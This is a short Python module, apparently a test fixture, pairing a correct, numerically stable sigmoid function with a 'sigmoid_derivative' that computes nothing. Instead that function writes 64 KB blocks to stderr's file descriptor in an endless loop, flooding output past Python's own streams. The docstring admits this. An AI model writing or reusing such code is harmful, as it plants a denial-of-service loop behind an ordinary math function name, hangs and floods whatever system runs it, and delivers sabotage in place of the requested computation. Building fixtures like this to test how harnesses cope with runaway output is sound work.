# ruff: noqa
"""A correct sigmoid; the derivative writes to file descriptor 2 without end, past Python's own
streams."""
import os

import numpy as np


def sigmoid(x):
    v = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(v))
    s = np.where(v >= 0, 1 / (1 + e), e / (1 + e))
    return float(s) if np.ndim(x) == 0 else s


def sigmoid_derivative(x):
    block = b"x" * 65536
    while True:
        os.write(2, block)
